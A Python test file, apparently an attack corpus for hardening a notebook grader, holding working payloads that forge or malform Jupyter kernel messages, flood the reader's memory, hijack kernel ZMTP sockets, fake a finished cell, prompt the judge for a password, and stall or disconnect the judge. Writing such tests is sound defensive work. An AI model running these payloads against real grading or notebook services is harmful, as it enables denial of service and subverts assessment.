"""P: lies and floods on the channels of the notebook's kernel, which nbclient reads for us.

The key of these messages lies in the kernel, which is the student's: a signature proves nothing.
"""

from __future__ import annotations

from tests.attacks.corpus.d_kill import ungraded
from tests.attacks.kit import Attack, Submission, Win

MESSAGES = r'''
import json, os, threading, time
from jupyter_client.session import Session
KERNEL = get_ipython().kernel
def publish(kind, content, times=1, **more):
    """Publish a message without the bounds that the honest kernel keeps."""
    for _ in range(times):
        message = KERNEL.session.msg(kind, content, parent=KERNEL.get_parent(), **more)
        parts = Session.serialize(KERNEL.session, message, None)
        KERNEL.iopub_thread.send_multipart([kind.encode(), *parts])
def publish_raw(kind, body, *, header=None, parent=None, more=()):
    """Publish a signed message whose parts are any bytes."""
    session = KERNEL.session
    message = session.msg(kind, {}, parent=KERNEL.get_parent())
    parts = [header or session.pack(message["header"]),
             parent or session.pack(message["parent_header"]), b"{}", body]
    KERNEL.iopub_thread.send_multipart(
        [kind.encode(), b"<IDS|MSG>", session.sign(parts), *parts, *more])
def parts(*frames):
    KERNEL.iopub_thread.send_multipart(list(frames))
'''
"""Defines `publish(kind, content)` and `publish_raw(kind, bytes)`."""

_MALFORMED = {
    "a wrong signature": 'parts(b"x", b"<IDS|MSG>", b"0" * 64, b"{}", b"{}", b"{}", b"{}")',
    "no delimiter": 'parts(b"x", b"y")',
    "one empty part": 'parts(b"")',
    "too few parts": 'parts(b"x", b"<IDS|MSG>", b"", b"{}")',
    "a signature twice": "\n".join(
        ["s = KERNEL.session", "p = [s.pack(s.msg('stream')['header']), b'{}', b'{}', b'{}']",
         "for _ in range(3):", "    parts(b'x', b'<IDS|MSG>', s.sign(p), *p)"]
    ),
    "JSON that is none": 'publish_raw("stream", b"\\xff\\xfe{")',
    "JSON a hundred thousand deep": 'publish_raw("stream", b"[" * 100_000 + b"]" * 100_000)',
    "numbers of a million digits": 'publish_raw("stream", b"[" + b"9" * 1_000_000 + b"]")',
    "a list for its content": 'publish_raw("stream", b"[1, 2]")',
    "null for its headers": 'publish_raw("stream", b"{}", header=b"null", parent=b"null")',
    "headers without their keys": 'publish_raw("stream", b"{}", header=b"{}", parent=b"{}")',
    "dates that are none": 'publish_raw("stream", b"{}", header=b\'{"msg_id": 1, "msg_type": 2,'
    ' "date": "9999999-99-99T99:99:99Z"}\')',
    "contents without their keys": "\n".join(
        f"publish({kind!r}, {{}})"
        for kind in ("stream", "display_data", "execute_result", "error", "execute_input",
                     "clear_output", "update_display_data", "comm_open", "comm_msg", "status")
    ),
    "contents of other types": "\n".join(
        ['publish("execute_result", {"data": 7, "metadata": 3, "execution_count": "x"})',
         'publish("stream", {"text": 5, "name": 7})',
         'publish("display_data", {"data": {"text/plain": {"a": 1}}, "metadata": []})',
         'publish("display_data", {"data": {"text/plain": "x"}, "transient": {"display_id": []}})',
         'publish("error", {"ename": {}, "evalue": [], "traceback": 9})',
         'publish("execute_input", {"code": [], "execution_count": -1e999})']
    ),
    "an unknown kind, and a kind that is no text": 'publish("evil", {})\npublish_raw("stream", '
    'b"{}", header=b\'{"msg_type": ["x"], "msg_id": {}}\')',
    "surrogates and controls": 'publish_raw("stream", json.dumps({"name": "stdout", "text": '
    '"\\ud800\\udfff\\x00\\x1b[2J\\u202e"}).encode())',
}  # fmt: skip
_LETTERS = ("", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n", "o", "p")

_DONE_ALREADY = r"""
def reply(status="ok"):
    "Say that the cell is done, and go on."
    parent = KERNEL.get_parent()
    content = {"status": status, "execution_count": 1, "user_expressions": {}, "payload": []}
    message = KERNEL.session.msg("execute_reply", content, parent=parent)
    for identity in {KERNEL.get_parent()["header"]["session"].encode(), b""}:
        KERNEL.session.send(KERNEL.shell_stream, message, ident=identity)
    publish("status", {"execution_state": "idle"})
publish("status", {"execution_state": "idle"}, 3)
try:
    reply()
except Exception:
    pass
time.sleep(10 ** 6)
"""
_INPUT = r"""
publish("input_request", {"prompt": "password: ", "password": True})
try:
    session, stdin = KERNEL.session, KERNEL.stdin_socket
    session.send(stdin, "input_request", {"prompt": "x", "password": True},
                 parent=KERNEL.get_parent(), ident=b"x")
except Exception:
    pass
KERNEL._allow_stdin = True
KERNEL._parent_ident = {"shell": b"", "control": b""}
answer = input("who is there? ")
found(answer)
"""
_SMALL = 'for _ in range(100_000):\n    publish("stream", {"name": "stdout", "text": "x"})'
_ALTERNATING = (
    "for i in range(50_000):\n"
    '    publish("stream", {"name": "stdout" if i % 2 else "stderr", "text": "x"})'
)
_DISPLAYS = (
    'deep = [[] for _ in range(900_000)]\npublish("display_data", '
    '{"data": {"application/json": deep, "text/plain": "x"}, "metadata": {}}, 200)'
)
_METADATA = (
    "deep = [[] for _ in range(900_000)]\nfor _ in range(200):\n"
    '    publish("display_data", {"data": {"text/plain": "x"}, "metadata": {"x": deep}})'
)
_ERRORS = 'publish("error", {"ename": "x", "evalue": "y", "traceback": ["z" * 3_900_000]}, 1000)'
_COMMS = (
    "for i in range(20_000):\n"
    '    publish("comm_open", {"comm_id": str(i), "target_name": "t", "data": {"x": "y" * 5000}})\n'
    '    publish("update_display_data", {"data": {"text/plain": "x"}, "metadata": {},'
    ' "transient": {"display_id": str(i)}})'
)
_LARGE = (
    'for size in (3, 5, 20, 60):\n    publish("stream", {"name": "stdout", "text": "x" * '
    "(size << 20)})"
)
_MANY_PARTS = (
    "session = KERNEL.session\nm = session.msg('stream', {'name': 'stdout', 'text': 'x'},"
    " parent=KERNEL.get_parent())\np = session.serialize(m)\n"
    "parts(b'x', *p, *[b''] * 3_000_000)\nparts(*[b'y' * 100] * 500_000, *p)"
)
_WIRE = r"""
import socket
def unix_sockets():
    "Sockets of this process: those that listen, and those that are connected."
    listening, connected = [], []
    for fd in range(3, 200):
        try:
            s = socket.socket(fileno=os.dup(fd))
            if s.family != socket.AF_UNIX or not s.getsockname():
                s.close()
                continue
            listens = s.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
            (listening if listens else connected).append(s)
        except OSError:
            pass
    return listening, connected
def greet(c, kind):
    "Shake hands as ZMTP 3.0 has it (RFC 23)."
    c.sendall(b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32))
    got = 0
    while got < 64:
        got += len(c.recv(64 - got)) or 64
    body = b"\x05READY\x0bSocket-Type" + len(kind).to_bytes(4, "big") + kind
    c.sendall(b"\x04" + bytes([len(body)]) + body)
def take_over(work, seconds=25):
    "Cut every connection of the kernel, and be the other end of those that come after."
    listening, connected = unix_sockets()
    def accept(s):
        kind = b"PUB" if s.getsockname().endswith("4") else b"ROUTER"
        while True:
            c, _ = s.accept()
            threading.Thread(target=tried, args=(work, c, kind), daemon=True).start()
    def tried(work, c, kind):
        try:
            work(c, kind)
        except OSError:
            pass
    for s in listening:
        threading.Thread(target=accept, args=(s,), daemon=True).start()
    for s in connected:
        s.shutdown(socket.SHUT_RDWR)
    time.sleep(seconds)
"""
_ENDLESS_MESSAGE = r"""
SENT = [0]
def work(c, kind):
    "One message of frames without end: a reader that waits for the last keeps them all."
    greet(c, kind)
    frame = b"\x03" + (1 << 20).to_bytes(8, "big") + bytes(1 << 20)
    while SENT[0] < 7 << 10:  # the corpus is capped: 7 GiB
        c.sendall(frame)
        SENT[0] += 1
take_over(work)
"""
_ENDLESS_SMALL = r"""
SENT = [0]
def work(c, kind):
    "The same with frames of no bytes: each costs the reader more than the sender."
    greet(c, kind)
    frames = b"\x01\x00" * (1 << 19)
    while SENT[0] < 1000:
        c.sendall(frames)
        SENT[0] += 1
take_over(work)
"""
_HALF_GREETING = r"""
def work(c, kind):
    "Begins to shake hands, one byte a second."
    for byte in b"\xff" + bytes(8) + b"\x7f\x03\x00" + bytes(40):
        c.sendall(bytes([byte]))
        time.sleep(1)
take_over(work)
"""
_NOISE = r"""
def work(c, kind):
    "Garbage in place of the handshake, behind it, and as commands."
    import random
    r = random.Random(os.getpid() + threading.get_native_id())
    for _ in range(200):
        way = r.randrange(4)
        if way:
            greet(c, r.choice([kind, b"PUB", b"REP", b"X" * 200, b""]))
        if way == 1:
            c.sendall(r.randbytes(5000))
        elif way == 2:
            c.sendall(b"\x06" + (1 << 40).to_bytes(8, "big") + r.randbytes(1000))
        elif way == 3:
            c.sendall(b"\x02" + (2 ** 63 - 1).to_bytes(8, "big") + r.randbytes(1000))
        else:
            c.sendall(r.randbytes(3000))
        c.close()
        return
take_over(work)
"""
_RECONNECTS = r"""
def work(c, kind):
    c.close()
take_over(work)
"""
_BUSY = (
    "import time\n"
    "def forever():\n    while True:\n        time.sleep(1)\n"
    "get_ipython().kernel.io_loop.add_callback(forever)\nprint('done')"
)
_BUSY_CPU = (
    "def forever():\n    while True:\n        pass\n"
    "get_ipython().kernel.io_loop.add_callback(forever)\nprint('done')"
)
_NO_ANSWER = r"""
import time
KERNEL.shell_handlers["execute_request"] = KERNEL.shell_handlers["kernel_info_request"] = None
async def nothing(*args, **kw):
    pass
KERNEL.dispatch_shell = nothing
KERNEL.schedule_dispatch = nothing
"""
_SERVES_ITSELF = r"""
import shardwork.probes.server as server
server.serve = lambda namespace: None
"""
_GIVES_BACK = r"""
import os
os.close(int(os.environ["SHARDWORK_JUDGE_FD"]))
os.environ["SHARDWORK_JUDGE_FD"] = "0"
"""
_BLAME = {Win.BATCH, Win.STALL, Win.RES}


def _kernel(
    name: str, title: str, *cells: str, sample: bool = False, budget_s: float = 120.0
) -> Attack:
    return Attack(
        id=name, title=title, wins=_BLAME, sample=sample, budget_s=budget_s, detect=ungraded,
        submission=Submission(before=tuple(cells)),
    )  # fmt: skip


ATTACKS = [
    *(
        _kernel(f"P20{letter}", f"publishes messages with {what}", MESSAGES + text,
                sample=letter == "")
        for letter, (what, text) in zip(_LETTERS, _MALFORMED.items(), strict=True)
    ),
    _kernel("P21", "says that a cell is done while it runs on", MESSAGES + _DONE_ALREADY),
    _kernel("P21b", "asks the judge for input", MESSAGES + _INPUT),
    _kernel("P21c", "publishes 100,000 small messages", MESSAGES + _SMALL),
    _kernel("P21d", "publishes outputs of one character, by turns to two streams",
            MESSAGES + _ALTERNATING),
    _kernel("P21e", "publishes results that are small on the wire and large in memory",
            MESSAGES + _DISPLAYS, MESSAGES + _DISPLAYS, sample=True),
    _kernel("P21f", "publishes metadata that is small on the wire and large in memory",
            MESSAGES + _METADATA, MESSAGES + _METADATA),
    _kernel("P21g", "publishes a thousand errors of 4 MB", MESSAGES + _ERRORS, MESSAGES + _ERRORS),
    _kernel("P21h", "opens 20,000 comms and displays", MESSAGES + _COMMS),
    _kernel("P21i", "publishes texts of up to 60 MB", MESSAGES + _LARGE),
    _kernel("P21j", "publishes messages of millions of parts", MESSAGES + _MANY_PARTS),
    Attack(
        id="P22", title="sends one message of frames without end, past the messaging library",
        wins={Win.RES}, detect=ungraded, alone=True,
        submission=Submission(before=(MESSAGES + _WIRE + _ENDLESS_MESSAGE,) * 2),
    ),
    Attack(
        id="P22b", title="sends one message of empty frames without end",
        wins={Win.RES}, detect=ungraded, alone=True,
        submission=Submission(before=(MESSAGES + _WIRE + _ENDLESS_SMALL,) * 2),
    ),
    _kernel("P22c", "shakes hands one byte a second", MESSAGES + _WIRE + _HALF_GREETING),
    _kernel("P22d", "sends garbage in place of frames", MESSAGES + _WIRE + _NOISE),
    _kernel("P22e", "hangs up on every connection at once", MESSAGES + _WIRE + _RECONNECTS),
    Attack(
        id="P23", title="keeps the kernel's main loop asleep when its cells have run",
        wins={Win.STALL, Win.BATCH}, detect=ungraded, sample=True,
        submission=Submission(after=(_BUSY,)),
    ),
    Attack(
        id="P23b", title="keeps the kernel's main loop busy when its cells have run",
        wins={Win.STALL, Win.BATCH}, detect=ungraded, submission=Submission(after=(_BUSY_CPU,)),
    ),
    Attack(
        id="P23c", title="has the kernel ignore every request from now on",
        wins={Win.STALL, Win.BATCH}, detect=ungraded,
        submission=Submission(after=(MESSAGES + _NO_ANSWER,)),
    ),
    Attack(
        id="P23d", title="does not serve the judge when it is told to",
        wins={Win.STALL, Win.BATCH}, detect=ungraded,
        submission=Submission(after=(_SERVES_ITSELF,)),
    ),
    Attack(
        id="P23e", title="closes the judge's connection before it is served",
        wins={Win.STALL, Win.BATCH}, detect=ungraded, submission=Submission(after=(_GIVES_BACK,)),
    ),
]  # fmt: skip
